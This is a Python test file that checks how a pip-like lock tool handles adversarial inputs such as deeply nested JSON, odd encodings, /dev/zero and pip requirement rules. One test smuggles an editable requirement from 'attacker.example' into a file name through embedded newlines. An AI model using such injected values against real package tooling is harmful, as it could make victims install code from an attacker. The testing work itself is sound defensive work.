"""End-to-end tests of inputs an adversary controls (issue 19, "Defects found when tried as an adversarial
user would"): each is a clear error or handled as pip handles it, never a crash (a signal), a hang or an
unbounded allocation.

Run directly: THOTH=build/thoth /usr/bin/python3 tests/e2e/test_hostile_inputs.py"""

import json
import os
import pathlib
import signal
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from support import harness  # noqa: E402
from support import mirror as mirrorlib  # noqa: E402
from support.server import MirrorServer  # noqa: E402

SYSTEM_PYTHON = pathlib.Path("/usr/bin/python3").resolve()
DEPTH = 150_000


def deep_json(depth=DEPTH):
    return "[" * depth + "]" * depth


class HostileInputs(unittest.TestCase):
    def setUp(self):
        self._tmp = harness.temp_dir()
        self.tmp = self._tmp.__enter__()
        self.addCleanup(self._tmp.__exit__, None, None, None)
        self.mirror = self.tmp / "m"
        mirrorlib.build_mirror({"projects": {"plain": {"1.0": {}}, "deep": {"1.0": {}}}}, str(self.mirror))
        self.index = (self.mirror / "simple").as_uri() + "/"
        self.cache = self.tmp / "cache"

    def lock(self, *args, index=None, cwd=None, timeout=120):
        return harness.run(["lock", *args, "--index-url", index or self.index, "--cache-dir", str(self.cache)],
                           cwd=cwd or self.tmp, timeout=timeout)

    def assert_error(self, r, rc, *fragments):
        self.assertGreater(r.rc, 0, f"killed by a signal or succeeded\n{r}")
        self.assertEqual(r.rc, rc, str(r))
        for f in fragments:
            self.assertIn(f, r.stderr, str(r))

    # ---- Defect 1: deeply nested JSON --------------------------------------------------------------

    def poison_page(self):
        (self.mirror / "simple" / "deep" / "index.json").write_text(
            '{"meta": {"api-version": "1.0"}, "files": ' + deep_json() + "}")

    def test_deep_json_index_page_from_a_file_url(self):
        self.poison_page()
        (self.mirror / "simple" / "deep" / "index.html").unlink()  # the JSON page is the one read
        r = self.lock("deep")
        self.assertGreater(r.rc, 0, str(r))
        self.assertIn("nested deeper than 64 levels", r.stderr, str(r))

    def test_deep_json_index_page_over_http(self):
        self.poison_page()
        with MirrorServer(str(self.mirror)) as srv:
            r = self.lock("deep", index=srv.index_url)
        self.assertGreater(r.rc, 0, str(r))
        self.assertIn("nested deeper than 64 levels", r.stderr, str(r))

    def test_deep_target_file(self):
        target = self.tmp / "target.json"
        target.write_text(deep_json())
        r = self.lock("plain", "--target-env", str(target))
        self.assert_error(r, 2, "nested deeper than 64 levels")

    def test_deep_probe_answer(self):
        liar = self.tmp / "python3"
        liar.write_text(f"#!/bin/sh\nexec {SYSTEM_PYTHON} -c \"print('[' * {DEPTH})\"\n")
        liar.chmod(0o755)
        r = self.lock("plain", "--python", str(liar))
        self.assertGreater(r.rc, 0, str(r))
        self.assertIn("nested deeper than 64 levels", r.stderr, str(r))

    def test_deep_report_read_back(self):
        out = self.tmp / "report.json"
        out.write_text('{"version": "1", "install": ' + deep_json() + "}")
        r = self.lock("plain", "--format", "report", "-o", str(out))
        # An unreadable existing lock is not reused (a warning says why); the new one replaces it.
        self.assertEqual(r.rc, 0, str(r))
        self.assertIn("JSON nested deeper than 64 levels); resolving afresh", r.stderr, str(r))
        self.assertEqual(json.loads(out.read_text())["install"][0]["metadata"]["name"], "plain")

    def test_poisoned_probe_cache_entry_is_replaced(self):
        python = self.tmp / "bin" / "python3"
        python.parent.mkdir()
        python.symlink_to(SYSTEM_PYTHON)
        r = self.lock("plain", "--python", str(python))
        self.assertEqual(r.rc, 0, str(r))
        (entry,) = (self.cache / "interpreters-v1").glob("*.json")
        entry.write_text(deep_json())
        for _ in range(2):  # the damaged entry is probed again and replaced, not a crash of every run
            r = self.lock("plain", "--python", str(python))
            self.assertEqual(r.rc, 0, str(r))
        json.loads(entry.read_text())


    # ---- Defect 6: UTF-16 / UTF-32 requirements files --------------------------------------------

    def test_utf16_and_utf32_requirements_files(self):
        for encoding in ("utf-16", "utf-16-be", "utf-32-be", "utf-32-le", "utf-8-sig"):
            with self.subTest(encoding=encoding):
                req = self.tmp / f"req-{encoding}.txt"
                data = "# written by PowerShell\r\nplain==1.0\r\n"
                raw = data.encode(encoding)
                if encoding in ("utf-16-be", "utf-32-be", "utf-32-le"):
                    raw = "\ufeff".encode(encoding) + raw
                req.write_bytes(raw)
                r = self.lock("-r", str(req))
                self.assertEqual(r.rc, 0, str(r))
                self.assertIn("plain==1.0", r.stdout)

    def test_coding_line_and_python_line_breaks(self):
        # PEP 263 coding line (pip's auto_decode) and lines split as str.splitlines(): byte 0x85 is U+0085
        # in Latin-1, which ends a line, as a form feed does.
        req = self.tmp / "req-latin1.txt"
        req.write_bytes(b"# -*- coding: latin-1 -*-\n# \xe9t\xe9\nplain==1.0\x85deep\fplain\n")
        r = self.lock("-r", str(req))
        self.assertEqual(r.rc, 0, str(r))
        self.assertIn("plain==1.0", r.stdout)
        self.assertIn("deep==1.0", r.stdout)
        req.write_bytes(b"# coding: klingon\nplain\n")
        self.assert_error(self.lock("-r", str(req)), 2, 'declares the encoding "klingon" in a coding line')

    # ---- Defect 9: unbounded input files ---------------------------------------------------------

    def test_dev_zero_is_refused(self):
        r = self.lock("-r", "/dev/zero", timeout=60)
        self.assert_error(r, 2, "requirements file /dev/zero is larger than 64 MiB")
        r = self.lock("plain", "--target-env", "/dev/zero", timeout=60)
        self.assert_error(r, 2, "target file '/dev/zero' is larger than 64 MiB")

    # ---- Defect 14: names from input never start a line of the lock -----------------------------

    def test_newline_in_requirements_file_name(self):
        req = self.tmp / "evil\n-e git+https:attacker.example#egg=x\n.txt"
        req.write_text("plain\n")
        out = self.tmp / "lock.txt"
        r = self.lock("-r", str(req), "-o", str(out))
        self.assertEqual(r.rc, 0, str(r))
        for line in out.read_text().splitlines():
            if "attacker" in line:
                self.assertLess(line.index("#"), line.index("attacker"), line)
        self.assertIn("plain==1.0", out.read_text())

    # ---- Defect 15: requirements-file parity with pip --------------------------------------------

    def test_pip_requirements_rules(self):
        cases = {
            "-e plain\n": "is not a valid editable requirement",
            "-c cons.txt\nplain\n": "constraints cannot have extras",
            "https://host.example/downloads/latest.tar.gz\n": "does not give the project's name and version",
        }
        (self.tmp / "cons.txt").write_text("plain[extra]<2\n")
        for text, message in cases.items():
            with self.subTest(text=text):
                req = self.tmp / "r.txt"
                req.write_text(text)
                r = self.lock("-r", str(req))
                self.assert_error(r, 2, message)
                self.assertIn("r.txt:1", r.stderr if "cons" not in text else r.stderr.replace("cons.txt:1", "r.txt:1"))

    def test_config_settings_are_accepted(self):
        req = self.tmp / "r.txt"
        req.write_text("plain --config-settings editable_mode=compat\n")
        r = self.lock("-r", str(req))
        self.assertEqual(r.rc, 0, str(r))
        self.assertIn("plain==1.0", r.stdout)
        self.assertEqual(r.stderr, "")


if __name__ == "__main__":
    unittest.main()
